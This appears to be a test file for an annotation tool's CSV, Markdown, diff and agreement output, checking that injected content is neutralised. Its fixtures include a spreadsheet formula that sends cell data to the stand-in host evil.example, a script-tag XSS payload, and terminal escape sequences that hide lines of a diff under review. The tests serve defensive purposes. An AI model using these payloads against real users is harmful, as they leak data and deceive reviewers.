import * as assert from 'node:assert/strict';
import { csvField } from '../../../src/core/teams/export/csvExport';
import { DOCUMENT, LI_WEI, NOTES, Workspace, cliIn } from '../teams/helpers';
import { authorSlug } from '../../../src/core/annotations/model/authorSlug';

/** Moves the cursor up two lines and erases them: a note that hides lines of a diff under review. */
const HIDING = '\u001b[2A\u001b[2K';

describe('abuse: output that a spreadsheet or a terminal would run', () => {
  let workspace: Workspace;
  beforeEach(async () => {
    workspace = new Workspace();
    await workspace.annotate('Li Wei', { document: DOCUMENT, provision: 3, tags: ['security'], note: `=HYPERLINK("http://evil.example/?"&A1,"click")` });
    await workspace.annotate(`张敏${HIDING}`, { document: DOCUMENT, provision: 3, tags: ['innovation'], note: `fine${HIDING}\u202e<script>alert(1)</script>` });
  });
  afterEach(() => workspace.remove());

  it('neutralises CSV cells that a spreadsheet would run as formulas (OWASP)', async () => {
    for (const [cell, written] of [
      ['=1+1', "'=1+1"],
      ['+1', "'+1"],
      ['-1', "'-1"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ['\tx', "'\tx"],
      ['\rx', `"'\rx"`],
      ['=a,b', `"'=a,b"`],
      ['plain', 'plain'],
    ]) {
      assert.equal(csvField(cell), written);
    }
    const { stdout } = await cliIn(workspace.root, ['export', '--format', 'csv']);
    assert.match(stdout, /,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""click""\)",/);
  });

  it('escapes raw HTML in the Markdown export', async () => {
    const { stdout } = await cliIn(workspace.root, ['export', '--format', 'markdown']);
    assert.ok(!stdout.includes('<script>'), stdout);
    assert.match(stdout, /&lt;script>alert\(1\)&lt;\/script>/);
  });

  it('shows escape sequences in diff, diff --textconv and agreement instead of sending them to the terminal', async () => {
    const zhang = `${NOTES}/${DOCUMENT}/${authorSlug(`张敏${HIDING}`)}.yaml`;
    const outputs = [
      await cliIn(workspace.root, ['diff', '--textconv', zhang]),
      await cliIn(workspace.root, ['diff', LI_WEI, zhang]),
      await cliIn(workspace.root, ['agreement']),
      await cliIn(workspace.root, ['agreement', '--json']),
    ];
    for (const output of outputs) {
      assert.equal(output.code, 0, output.stderr);
      assert.ok(!/[\u001b\u202e]/.test(output.stdout + output.stderr), output.stdout);
    }
    assert.match(outputs[0].stdout, /fine\\x1b\[2A\\x1b\[2K\\u202e/);
    assert.match(outputs[2].stdout, /张敏\\x1b\[2A\\x1b\[2K/);
    assert.ok(JSON.stringify(JSON.parse(outputs[3].stdout)).includes('张敏\\u001b[2A'));
  });
});
